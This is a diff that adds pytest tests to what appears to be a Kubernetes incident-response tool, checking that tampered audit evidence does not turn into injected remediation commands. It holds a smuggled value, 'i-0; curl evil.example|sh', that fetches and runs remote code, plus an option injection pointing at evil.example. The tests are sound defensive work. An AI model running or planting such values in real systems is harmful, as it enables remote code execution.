@@ -370,3 +370,79 @@ def test_secrets_in_reach_are_those_of_the_identitys_rights_and_not_those_it_rea
     assert keys(finding, "reachable", "possible") == every - keys(finding, "secret")
     of_user = keys(first_of_type("oidc_user_impact", "Impact"), "reachable", "possible")
     assert of_user and all(key.startswith(("store/", "store-staging/")) for key in of_user)
+
+
+# ── evidence that wants to do harm, or is odd ────────────────────────────────────────────────────────────────────────
+
+
+def test_instance_ids_and_names_of_bindings_cannot_become_commands_or_options(tmp_path: Path) -> None:
+    def harmful(resource: str, items: list[dict[str, Any]]) -> list[dict[str, Any]]:
+        for item in items:
+            if resource == "rolebindings" and item["metadata"]["name"] == "api-reader":
+                item["metadata"]["name"] = "--server=evil.example"
+            if resource == "nodes":
+                item["spec"]["providerID"] = "aws:///us/i-0; curl evil.example|sh"
+        return items
+
+    finding = of_type(scope_of(varied(STOLEN, tmp_path, dump=harmful)), "SecretsAccessed")
+    (one,) = [one for one in finding["identities"] if one["kind"] == "service_account"][:1]
+    assert "kubectl edit rolebindings -n store -- --server=evil.example" in steps(one)
+    assert "curl" not in "".join(step["command"] or "" for each in finding["identities"] for step in each["take_away"])
+
+
+ERIN = "- userarn: arn:aws:iam::111122223333:user/ops-erin\n  username: ops-erin\n  groups:\n  - platform-admins\n"
+
+
+@pytest.mark.parametrize(
+    ("data", "stands"),
+    [
+        ([{"mapUsers": ""}, {"mapUsers": ERIN}], True),  # taken out and put in again
+        ([{"mapUsers": ERIN}, {"mapUsers": ""}], True),  # the dump has it: it is newer
+        ([{"mapRoles": "[]"}], True),  # a patch of another member says nothing of this one
+        ([{"mapUsers": "- userarn: &x 2024-13-45\n  username: *x\n"}], True),  # aliases and impossible dates
+    ],
+)
+def test_a_mapping_is_over_only_when_log_and_dump_have_it_no_more(
+    tmp_path: Path, data: list[dict[str, str]], stands: bool
+) -> None:
+    def changed(events: list[Event]) -> list[Event]:
+        patch = next(
+            one for one in events if (one.get("objectRef") or {}).get("name") == "aws-auth" and one["verb"] == "patch"
+        )
+        rest = [one for one in events if one is not patch]
+        made = [
+            another(patch, 50 + number, requestObject={"data": each}, responseObject=None)
+            for number, each in enumerate(data)
+        ]
+        return [*rest, *made]
+
+    scope = scope_of(varied("exec_kube_system", tmp_path, events=changed))
+    one = next(one for finding in scope.values() for one in finding["identities"] if one["user_name"] == "ops-erin")
+    assert ("out of aws-auth" in steps(one)) == stands
+
+
+def test_a_kubelet_behind_what_all_share_is_not_accused_for_minting(tmp_path: Path) -> None:
+    """No lease, no CloudTrail, no status: nothing says which addresses are the cluster's own, and all come from one."""
+
+    def behind(events: list[Event]) -> list[Event]:
+        kept = [one for one in events if (one.get("objectRef") or {}).get("resource") != "leases"]
+        bad = set(truth("default_sa_admin")["attacker_calls"])
+        for event in kept:
+            user = event["user"].get("username", "")
+            if (
+                user.startswith(("system:node:", "system:serviceaccount:")) and event["sourceIPs"][-1] != "127.0.0.1"
+            ) or event["auditID"] in bad:
+                event["sourceIPs"] = ["45.155.205.7"]
+        return kept
+
+    def told(findings: list[dict[str, Any]]) -> list[dict[str, Any]]:
+        for finding in findings:
+            call = finding["Service"].get("Action", {}).get("KubernetesApiCallAction")
+            if call:
+                call |= {"SourceIps": ["45.155.205.7"], "RemoteIpDetails": {"IpAddressV4": "45.155.205.7"}}
+        return findings
+
+    left_out = ["cloudtrail.json.gz", "cluster", "aws"]
+    scope = scope_of(varied("default_sa_admin", tmp_path, without=left_out, events=behind, findings=told))
+    calls = {call for finding in scope.values() for call in finding["calls"]}
+    assert calls and calls <= set(truth("default_sa_admin")["attacker_calls"])
